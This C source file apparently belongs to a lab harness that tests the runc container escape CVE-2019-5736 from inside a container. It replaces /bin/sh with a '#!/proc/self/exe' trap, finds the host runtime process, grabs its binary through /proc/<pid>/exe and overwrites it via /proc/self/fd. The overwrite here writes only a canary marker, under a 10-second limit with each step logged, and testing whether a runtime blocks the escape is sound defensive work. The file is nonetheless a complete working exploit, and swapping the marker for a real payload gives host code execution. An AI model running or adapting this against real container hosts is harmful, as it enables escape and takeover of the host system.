/*
 * CVE-2019-5736, the container's part (runs as the container's init, root in the container):
 *   1. replace /bin/sh with `#!/proc/self/exe`, so whatever process execs /bin/sh runs its own
 *      binary again: for a `runc exec`, the host runtime binary, inside the container;
 *   2. find that process (argv[0] is "/proc/self/exe") and open its executable through
 *      /proc/<pid>/exe with O_PATH (a ptrace read-mode check: allowed, it is a container process);
 *   3. once it has exited (until then open for writing fails with ETXTBSY), reopen the handle
 *      through /proc/self/fd/N for writing and write the marker over the host binary.
 * Bounded: gives up after 10 s. Every step that can be refused prints a bw_step line.
 */
#define _GNU_SOURCE
#include "bwlab.h"

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MARKER "BW-CANARY-CVE-2019-5736\n"
#define PAYLOAD "#!/proc/self/exe\n"

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void sleep_us(long us) {
  struct timespec t = {us / 1000000, (us % 1000000) * 1000L};
  nanosleep(&t, NULL);
}

/* Step 1: plant the trap. /bin/sh is a symlink to busybox in the image: replace it by a script. */
static int plant(void) {
  if (unlink("/bin/sh") != 0 && errno != ENOENT) {
    bw_step("replace /bin/sh with #!/proc/self/exe", 0, errno, "unlink /bin/sh");
    return -1;
  }
  int fd = open("/bin/sh", O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
  if (fd < 0) {
    bw_step("replace /bin/sh with #!/proc/self/exe", 0, errno, "create /bin/sh");
    return -1;
  }
  ssize_t w = write(fd, PAYLOAD, strlen(PAYLOAD));
  int e = errno;
  close(fd);
  if (w != (ssize_t)strlen(PAYLOAD)) {
    bw_step("replace /bin/sh with #!/proc/self/exe", 0, w < 0 ? e : EIO, "write /bin/sh");
    return -1;
  }
  bw_step("replace /bin/sh with #!/proc/self/exe", 1, 0, "");
  /* Tell run.sh the trap is set (it then plays the operator running `exec /bin/sh`). */
  if (bw_write_file("/tmp/bw-ready", "1\n") != 0) return -1;
  return 0;
}

/* The pid of a process whose argv[0] is "/proc/self/exe", or 0. */
static pid_t find_runtime(void) {
  DIR *d = opendir("/proc");
  if (!d) return 0;
  pid_t found = 0, self = getpid();
  struct dirent *e;
  while (!found && (e = readdir(d))) {
    char *end;
    long pid = strtol(e->d_name, &end, 10);
    if (*end || pid <= 0 || pid == self) continue;
    char path[64], buf[64] = {0};
    snprintf(path, sizeof path, "/proc/%ld/cmdline", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) continue;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n > 0 && strcmp(buf, "/proc/self/exe") == 0) found = (pid_t)pid;
  }
  closedir(d);
  return found;
}

/* The container's init is about to exit, which kills every process in the container: first let the
   runtime's process finish (bounded), so a refused write does not also show up as a killed exec. */
static int finish(pid_t pid, int rc) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d", (int)pid);
  for (int i = 0; pid > 0 && i < 200 && access(path, F_OK) == 0; i++) sleep_us(5000);
  return rc;
}

int main(void) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  double deadline = now() + 10.0;
  if (plant() != 0) return 1;

  /* Step 2: catch the runtime binary while it runs inside the container. */
  int exe = -1, last_err = 0;
  pid_t pid = 0;
  while (exe < 0 && now() < deadline) {
    pid = find_runtime();
    if (!pid) {
      sleep_us(200);
      continue;
    }
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", (int)pid);
    exe = open(path, O_PATH | O_CLOEXEC);
    if (exe < 0) {
      last_err = errno;
      /* ENOENT/ESRCH: it exited between the scan and the open; EACCES: ptrace check. Retry. */
      if (last_err != ENOENT && last_err != ESRCH) {
        bw_step("open the runtime binary through /proc/<pid>/exe (O_PATH)", 0, last_err, path);
        return finish(pid, 1);
      }
    }
  }
  if (exe < 0) {
    bw_step("open the runtime binary through /proc/<pid>/exe (O_PATH)", 0, last_err ? last_err : ETIMEDOUT,
            "no process ran /proc/self/exe inside the container within 10 s");
    return 1;
  }
  char target[4096];
  char fdpath[64];
  snprintf(fdpath, sizeof fdpath, "/proc/self/fd/%d", exe);
  ssize_t n = readlink(fdpath, target, sizeof target - 1);
  target[n > 0 ? n : 0] = 0;
  bw_step("open the runtime binary through /proc/<pid>/exe (O_PATH)", 1, 0, target);

  /* Step 3: write it as soon as no process executes it any more. */
  int w = -1;
  while (now() < deadline) {
    w = open(fdpath, O_WRONLY | O_TRUNC | O_CLOEXEC);
    if (w >= 0) break;
    last_err = errno;
    if (last_err != ETXTBSY) break;
    sleep_us(500);
  }
  if (w < 0) {
    bw_step("open the runtime binary for writing (/proc/self/fd/N)", 0, last_err, target);
    return finish(pid, 1);
  }
  bw_step("open the runtime binary for writing (/proc/self/fd/N)", 1, 0, target);
  ssize_t wr = write(w, MARKER, strlen(MARKER));
  int e = errno;
  close(w);
  if (wr != (ssize_t)strlen(MARKER)) {
    bw_step("write the marker over the runtime binary", 0, wr < 0 ? e : EIO, target);
    return 1;
  }
  bw_step("write the marker over the runtime binary", 1, 0, target);
  return 0;
}
